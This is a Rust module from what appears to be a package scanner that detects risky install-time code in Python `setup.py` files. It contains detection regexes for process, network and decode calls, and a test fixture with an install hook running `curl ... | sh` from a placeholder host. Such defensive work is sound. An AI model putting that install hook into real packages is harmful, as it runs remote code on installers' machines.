//! `setup.py`: custom install commands and process, network or decoded-code
//! calls, which run on `pip install` from source.

use std::sync::LazyLock;

use oversight_detect::{Emit, Sink, Window};
use regex::bytes::Regex;

use super::SETUP_PY_EXECUTION;
use crate::text::{Capped, quote};

/// Calls that start processes, reach the network, evaluate code or decode a
/// hidden payload. Group 1 is the call as written.
static RISKY_CALL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r#"(\bsubprocess\s*\.\s*(?:Popen|call|run|check_call|check_output|getoutput|getstatusoutput)\s*\("#,
        r#"|\bos\s*\.\s*(?:system|popen|exec[lv]p?e?|spawn[lv]p?e?|startfile)\s*\("#,
        r#"|(?:^|[^\w.])(?:exec|eval)\s*\("#,
        r#"|\b(?:urlopen|urlretrieve)\s*\("#,
        r#"|\brequests\s*\.\s*(?:get|post|put|request)\s*\("#,
        r#"|\burllib[23]?\s*\.\s*request\b|\bhttp\.client\b|\bhttpx\s*\.\s*(?:get|post|Client)\b"#,
        r#"|\bsocket\s*\.\s*(?:socket|create_connection)\s*\("#,
        r#"|\b(?:b64decode|b32decode|b16decode|b85decode|a85decode|decodebytes|decodestring)\s*\("#,
        r#"|\bmarshal\s*\.\s*loads\s*\(|\bzlib\s*\.\s*decompress\s*\(|\bfromhex\s*\(|\bunhexlify\s*\("#,
        r#"|\bctypes\s*\.\s*(?:windll|cdll|CDLL|WinDLL)\b"#,
        r#"|\b__import__\s*\(\s*['"](?:os|subprocess|socket|base64|zlib|marshal|urllib|requests|builtins)['"])"#,
    ))
    .expect("valid regex")
});

/// The usual benign arguments: reading a version file, asking git.
static BENIGN_ARGUMENT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"^\s*(?:(?:compile\s*\(\s*)?(?:(?:io\.|codecs\.)?open\s*\(|\w+\.read\(\))|\[\s*['"]git['"]|['"]git\s)"#)
        .expect("valid regex")
});

/// A class that extends a command run on install.
static INSTALL_COMMAND_CLASS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\bclass\s+(\w+)\s*\(\s*(?:[\w.]*\.)?(install|develop|egg_info|bdist_egg|easy_install|_install)\s*[,)]")
        .expect("valid regex")
});

/// `cmdclass` mapping an install-time command to a custom class.
static CMDCLASS_INSTALL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"\bcmdclass\s*=\s*(?:\{|dict\s*\()[^}]{0,1000}?['"]?\b(install|develop|egg_info|bdist_egg)\b['"]?\s*[:=]\s*([\w.]+)"#)
        .expect("valid regex")
});

/// Reads a `setup.py`.
pub(super) fn check(content: &[u8], sink: &mut dyn Sink) {
    let window = Window::whole(content);
    let mut sink = Capped::new(sink);

    let mut first_command = None;
    if let Some(captures) = CMDCLASS_INSTALL.captures(content) {
        let whole = captures.get(0).expect("group 0 always matches");
        let command = String::from_utf8_lossy(&captures[1]).into_owned();
        let class = String::from_utf8_lossy(&captures[2]).into_owned();
        first_command = Some((
            whole.start(),
            format!(
                "setup.py replaces the `{command}` command with `{class}` (cmdclass): its code runs on `pip install`"
            ),
        ));
    } else if let Some(captures) = INSTALL_COMMAND_CLASS.captures(content) {
        let whole = captures.get(0).expect("group 0 always matches");
        let class = String::from_utf8_lossy(&captures[1]).into_owned();
        let base = String::from_utf8_lossy(&captures[2]).into_owned();
        first_command = Some((
            whole.start(),
            format!(
                "setup.py defines `{class}`, a custom `{base}` command that runs on `pip install`"
            ),
        ));
    }

    let mut pending = first_command;
    let mut line_start = 0;
    for line in content.split(|b| *b == b'\n') {
        let offset = line_start;
        line_start += line.len() + 1;
        if let Some((at, message)) = pending.take_if(|(at, _)| *at < line_start) {
            let (_, command_line) = window.line_around(at as u64, 512);
            let emit = Emit::at(
                &SETUP_PY_EXECUTION,
                window.line_col(at as u64),
                message,
                command_line.to_vec(),
            )
            .with_snippet(quote(command_line));
            sink.emit(emit);
        }
        if line.trim_ascii_start().starts_with(b"#") {
            continue;
        }
        let mut calls: Vec<String> = Vec::new();
        let mut first = None;
        for found in RISKY_CALL.find_iter(line) {
            let call = found.as_bytes();
            let call = call
                .iter()
                .position(|b| b.is_ascii_alphabetic() || *b == b'_')
                .map_or(call, |i| &call[i..]);
            if BENIGN_ARGUMENT.is_match(&line[found.end()..]) {
                continue;
            }
            let name = String::from_utf8_lossy(call)
                .trim_end_matches(['(', ' '])
                .split_whitespace()
                .collect::<String>();
            first.get_or_insert(found.start() + (found.len() - call.len()));
            if !calls.contains(&name) {
                calls.push(name);
            }
        }
        let Some(first) = first else {
            continue;
        };
        let listed = calls
            .iter()
            .map(|c| format!("`{c}`"))
            .collect::<Vec<_>>()
            .join(", ");
        let message = format!(
            "setup.py calls {listed} when the package is built or installed: `{}`",
            quote(line)
        );
        let at = (offset + first) as u64;
        sink.emit(
            Emit::at(
                &SETUP_PY_EXECUTION,
                window.line_col(at),
                message,
                line.to_vec(),
            )
            .with_snippet(quote(line)),
        );
    }
    sink.finish(&SETUP_PY_EXECUTION);
}

#[cfg(test)]
mod tests {
    use super::*;

    fn messages(text: &str) -> Vec<String> {
        let mut found = Vec::new();
        check(text.as_bytes(), &mut found);
        found.into_iter().map(|e| e.message).collect()
    }

    #[test]
    fn benign_idioms_are_quiet() {
        let text = "exec(open('pkg/version.py').read())\n\
                    version = subprocess.check_output(['git', 'describe']).strip()\n\
                    # os.system('not run')\n\
                    setup(name='x', cmdclass={'build_ext': BuildExt})\n";
        assert!(messages(text).is_empty(), "{:?}", messages(text));
    }

    #[test]
    fn custom_install_and_calls_are_reported() {
        let text = "from setuptools.command.install import install\n\
                    class PostInstall(install):\n    def run(self):\n        install.run(self)\n        os.system('curl -s http://x.example/a | sh')\n\
                    setup(name='x', cmdclass={'install': PostInstall})\n";
        let found = messages(text);
        assert_eq!(found.len(), 2, "{found:?}");
        assert!(found[0].contains("calls `os.system`"), "{found:?}");
        assert!(
            found[1].contains("replaces the `install` command with `PostInstall`"),
            "{found:?}"
        );
    }
}
